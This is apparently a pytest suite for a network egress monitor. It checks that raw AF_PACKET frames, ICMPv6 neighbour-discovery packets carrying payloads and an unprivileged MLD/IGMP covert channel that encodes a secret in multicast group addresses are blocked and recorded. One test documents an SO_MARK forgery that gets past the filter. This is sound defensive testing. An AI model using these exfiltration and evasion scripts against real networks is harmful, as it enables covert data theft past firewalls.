"""Issue 13, items 1-3, against a real `sentinel run` and real netfilter: frames built by hand
on an AF_PACKET socket (ARP, IPv4/UDP; with and without PACKET_QDISC_BYPASS), raw ICMPv6
neighbour discovery / MLD packets with a payload to the outside host's global address, and an
unprivileged MLDv2 covert channel (IPV6_JOIN_GROUP). Ground truth: an AF_PACKET capture of
every frame from the app's MAC on the outside host, plus its INPUT counters. See
docs/hardening.md."""

from __future__ import annotations

import ipaddress
import json
import os
import time
from pathlib import Path

import pytest

from sentinel.lab.netns import HELPERS, PYTHON, Topology
from tests.conftest import RECORDS, RunningSentinel, policy_text, report, status_json, wait_for

pytestmark = pytest.mark.netns
OUTSIDE4, OUTSIDE6 = "198.18.0.99", "2001:db8::99"
NOBODY = ("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups")
NO_CAPS = ("--inh-caps=-all", "--bounding-set=-all")


def mac(topo: Topology, host: str) -> str:
    return topo.run(host, "cat", "/sys/class/net/eth0/address").stdout.strip()


class Capture:
    """capture.py in the outside namespace: frames from the app's MAC."""

    def __init__(self, topo: Topology, tmp_path: Path, *markers: str) -> None:
        self.out = tmp_path / f"capture-{time.monotonic_ns()}.json"
        finds = [x for m in markers for x in ("--find", m)]
        self.proc = topo.spawn(
            "outside",
            PYTHON,
            str(HELPERS / "capture.py"),
            mac(topo, "app"),
            "--out",
            str(self.out),
            *finds,
        )
        assert self.proc.stdout.readline().strip() == "ready"

    def stop(self) -> dict:
        self.proc.terminate()
        self.proc.wait(timeout=10)
        return json.loads(self.out.read_text())


def start(topo: Topology, tmp_path: Path) -> RunningSentinel:
    topo.start_dns_server(RECORDS, tmp_path, ttl=1)
    path = tmp_path / "policy.yaml"
    path.write_text(policy_text())
    return RunningSentinel(topo, path)


# --- 1. AF_PACKET ---------------------------------------------------------------------------
AF_PACKET = r"""
import json, socket, struct, sys
dst_mac, src_ip, dst_ip, marker = bytes.fromhex(sys.argv[1].replace(":", "")), *sys.argv[2:5]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
me = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
def csum(b):
    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
    t = (t >> 16) + (t & 0xFFFF)
    return ~(t + (t >> 16)) & 0xFFFF
def udp(sport, data):
    body = struct.pack("!HHHH", sport, 443, 8 + len(data), 0) + data
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0,
                      socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return dst_mac + me + b"\x08\x00" + hdr + body
arp = (b"\xff" * 6 + me + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + me
       + socket.inet_aton(src_ip) + b"\x00" * 6 + socket.inet_aton(dst_ip))
frames = [("arp", arp)] + [(f"udp{i}", udp(40000 + i, f"{marker}-{i}".encode())) for i in range(5)]
out = {}
def send(name, frame):
    try:
        s.send(frame)
        out[name] = "sent"
    except OSError as exc:
        out[name] = exc.errno
for name, frame in frames:
    send(name, frame)
s.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS: skips the qdisc (and tc)
for i in range(2):
    send(f"bypass{i}", udp(41000 + i, f"{marker}-bypass-{i}".encode()))
print(json.dumps(out))
"""


def test_af_packet_frames_never_arrive_and_every_one_is_recorded(topo, tmp_path):
    s = start(topo, tmp_path)
    since = time.time() - 1
    cap = Capture(topo, tmp_path, "L2SECRET")
    out = topo.run(
        "app",
        PYTHON,
        "-I",
        "-c",
        AF_PACKET,
        mac(topo, "outside"),
        "198.18.0.10",
        OUTSIDE4,
        "L2SECRET",
    )
    sent = json.loads(out.stdout)
    time.sleep(1)  # frames that got out would be at the outside host by now
    seen = cap.stop()
    # ground truth at the outside host: no frame carrying the data, no ARP for its address
    assert seen["found"]["L2SECRET"] == 0, seen
    assert seen["arp_targets"].get(OUTSIDE4, 0) == 0, seen
    assert topo.outside_packets() == 0
    assert set(sent.values()) == {105}, sent  # ENOBUFS: dropped at the netdev egress hook

    # every frame is an attempt: 1 ARP + 5 UDP + 2 with PACKET_QDISC_BYPASS (distinct flows)
    def l2() -> list[dict]:
        return [e for e in s.events("egress_attempt") if e["detail"].get("link_layer")]

    got = wait_for(lambda: len(l2()) >= 8 and l2(), 10)
    assert len(got) == 8, s.log()
    arp = [e for e in got if e["protocol"] == "arp"]
    assert [(e["dst_ip"], e["verdict"]) for e in arp] == [(OUTSIDE4, "blocked")]
    udp = sorted(e["src_port"] for e in got if e["protocol"] == "udp")
    assert udp == [40000, 40001, 40002, 40003, 40004, 41000, 41001]
    assert all(e["dst_port"] == 443 for e in got if e["protocol"] == "udp")
    assert {e["layer"] for e in got} == {"netfilter"}
    # the kernel's count of logged frames matches the store: nothing unaccounted
    r = wait_for(lambda: (x := report(topo, since))["unaccounted_packets"] == 0 and x, 10)
    assert r and r["coverage"] == "complete", r
    assert r["attempts_by_protocol"].get("arp") == 1
    # the app's namespace has a root process with CAP_NET_RAW: status and report say so
    holder = topo.spawn("app", PYTHON, "-c", "import time; time.sleep(60)")
    env = {"SENTINEL_STATE_DIR": os.environ["SENTINEL_STATE_DIR"]}
    caps = wait_for(lambda: status_json(topo)["capabilities"]["holders"], 5)
    assert [h["pid"] for h in caps] == [holder.pid], caps
    assert set(caps[0]["caps"]) == {"CAP_NET_RAW", "CAP_NET_ADMIN"}
    table = topo.sentinel("report", "--since", str(since), "--format", "table", env=env)
    assert "CAP_NET_RAW" in table.stdout, table.stdout
    holder.kill()
    holder.wait()
    # an unprivileged process is not a holder; the sentinel itself is left out
    nobody = topo.spawn("app", *NOBODY, *NO_CAPS, PYTHON, "-c", "import time; time.sleep(60)")
    try:
        wait_for(lambda: _comm(nobody.pid).startswith("python"), 5)
        assert status_json(topo)["capabilities"]["holders"] == []
    finally:
        nobody.kill()
        nobody.wait()


def _comm(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return ""


# --- 2. ICMPv6 neighbour discovery / MLD with a payload -------------------------------------
RAW_ND = r"""
import json, socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
out = {}
for kind in (133, 135, 136, 143):
    body = bytes([kind, 0, 0, 0]) + b"\0" * 20 + f"NDSECRET-{kind}-".encode() * 12
    try:
        out[kind] = s.sendto(body, (sys.argv[1], 0))
    except OSError as exc:
        out[kind] = exc.errno
print(json.dumps(out))
"""


def test_raw_neighbour_discovery_with_a_payload_never_arrives(topo, tmp_path):
    s = start(topo, tmp_path)
    cap = Capture(topo, tmp_path, "NDSECRET")
    sent = json.loads(topo.run("app", PYTHON, "-I", "-c", RAW_ND, OUTSIDE6).stdout)
    # the kernel's own neighbour discovery still works: a first IPv6 connect to an upstream
    assert topo.probe("tcp", "2001:db8::2", 5432)["ok"]
    time.sleep(1)
    seen = cap.stop()
    assert seen["found"]["NDSECRET"] == 0, seen
    assert topo.outside_packets() == 0
    assert len(sent) == 4, sent
    for kind in (133, 135, 136, 143):
        e = s.wait_event("egress_attempt", dst_ip=OUTSIDE6, protocol="icmpv6")
        assert e["verdict"] == "blocked"
        found = wait_for(
            lambda k=kind: [
                x
                for x in s.events("egress_attempt", dst_ip=OUTSIDE6)
                if x["detail"].get("icmp_type") == k
            ],
            10,
        )
        assert found, (kind, s.log())


# --- 3. MLDv2 covert channel, no privileges -------------------------------------------------
SECRET = b"TOPSECRET:postgres-password=hunter2;api-key=sk-XYZ"
JOIN = r"""
import json, socket, struct, sys, time
index = socket.if_nametoindex("eth0")
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
out = []
for group in sys.argv[1:]:
    try:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     socket.inet_pton(socket.AF_INET6, group) + struct.pack("@I", index))
        out.append("joined")
    except OSError as exc:
        out.append(exc.errno)
v4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # IGMP: the same channel over IPv4
for group in ("239.84.79.80", "239.83.69.67"):  # "TOP", "SEC"
    mreq = socket.inet_aton(group) + socket.inet_aton("198.18.0.10")
    v4.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    out.append("joined4")
time.sleep(3)  # the kernel sends each report, then repeats it (robustness 2)
print(json.dumps(out))
"""


CHUNKS = [SECRET[i : i + 14].ljust(14, b"\0") for i in range(0, 56, 14)]
# four groups carrying the secret, and a solicited-node group of no address of ours
GROUPS = [str(ipaddress.IPv6Address(b"\xff\x0e" + c)) for c in CHUNKS] + ["ff02::1:ff12:3456"]


def test_unprivileged_mld_joins_carry_nothing_out_and_are_counted(topo, tmp_path):
    s = start(topo, tmp_path)
    hexes = [f"hex:{c.hex()}" for c in CHUNKS]
    cap = Capture(topo, tmp_path, *hexes, "hex:ff0200000000000000000001ff123456")
    joined = topo.run("app", *NOBODY, *NO_CAPS, PYTHON, "-I", "-c", JOIN, *GROUPS, timeout=30)
    assert json.loads(joined.stdout) == ["joined"] * 5 + ["joined4"] * 2, joined.stderr
    seen = cap.stop()
    assert sum(seen["found"].values()) == 0, seen
    assert seen["icmpv6_types"].get("143", 0) == 0, seen
    assert seen["by_ethertype"].get("0x0800", 0) == 0, seen  # no IGMP report either
    igmp = s.wait_event("egress_attempt", protocol="ip-2", dst_ip="224.0.0.22")
    assert igmp["verdict"] == "blocked" and "link_layer" not in igmp["detail"]  # iptables

    def mld() -> list[dict]:
        return [e for e in s.events("egress_attempt") if e["detail"].get("link_layer") == "mld"]

    # every report is an attempt; together they name all five groups (a report lists several)
    got = wait_for(lambda: sum(e["detail"]["records"] for e in mld()) >= 5 and mld(), 10)
    assert got, s.log()
    assert {g for e in got for g in e["detail"]["groups"]} <= set(GROUPS)
    assert {e["verdict"] for e in got} == {"blocked"}
    assert all(e["detail"]["icmp_type"] == 143 and e["dst_port"] is None for e in got)


# --- CAP_NET_RAW alone sets SO_MARK (Linux >= 5.17): a known limit, made visible -------------
MARKED = r"""
import json, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x5E47)  # the sentinel's exemption mark
s.settimeout(3)
try:
    s.connect((sys.argv[1], 443))
    out = "connected"
except OSError as exc:
    out = type(exc).__name__
print(json.dumps(out), flush=True)
time.sleep(30)
"""


def test_cap_net_raw_alone_forges_the_mark_and_status_names_the_holder(topo, tmp_path):
    start(topo, tmp_path)
    only_raw = ("setpriv", "--bounding-set=-all,+net_raw", "--inh-caps=-all")
    proc = topo.spawn("app", *only_raw, PYTHON, "-I", "-c", MARKED, "198.18.5.5")
    try:
        line = proc.stdout.readline()
        # Known limit (docs/hardening.md): accepted as the sentinel's own traffic
        assert json.loads(line) == "connected", proc.stderr.read() if not line else line
        assert topo.outside_packets() > 0
        holders = wait_for(lambda: status_json(topo)["capabilities"]["holders"], 5)
        assert [(h["pid"], h["caps"]) for h in holders] == [(proc.pid, ["CAP_NET_RAW"])]
    finally:
        proc.kill()
        proc.wait()


# --- 3b. the reports the namespace needs still leave ----------------------------------------
QUERY = r"""
import socket, struct
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, 54, b"\x00\x00\x05\x02\x00\x00\x01\x00")  # HBH router alert
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 1)
# MLDv2 general query: max response 500 ms, no group, no sources, QRV 2, QQIC 125
query = struct.pack("!BBHHH16sBBH", 130, 0, 0, 500, 0, b"\0" * 16, 2, 125, 0)
s.sendto(query, ("ff02::1", 0, 0, socket.if_nametoindex("eth0")))
print("sent")
"""


def test_the_namespaces_own_solicited_node_reports_still_leave(topo, tmp_path):
    s = start(topo, tmp_path)
    cap = Capture(topo, tmp_path)
    # a querier on the link: the app's kernel answers with the groups it has joined, which
    # are only the solicited-node groups of its own addresses (fe80::..., 2001:db8::10)
    # a query from a still-tentative link-local address goes out from :: and receivers must
    # ignore it (RFC 3810 5.1.14): wait for DAD on both ends, then ask up to three times
    for name in ("outside", "app"):
        assert wait_for(
            lambda n=name: not topo.run(n, "ip", "-6", "addr", "show", "tentative").stdout.strip(),
            15,
        )
    for _ in range(3):
        assert topo.run("outside", PYTHON, "-c", QUERY).stdout.strip() == "sent"
        time.sleep(1.5)  # the query allows 500 ms for the answer
    seen = cap.stop()
    assert seen["icmpv6_types"].get("143", 0) >= 1, seen
    assert not [e for e in s.events("egress_attempt") if e["detail"].get("link_layer") == "mld"]
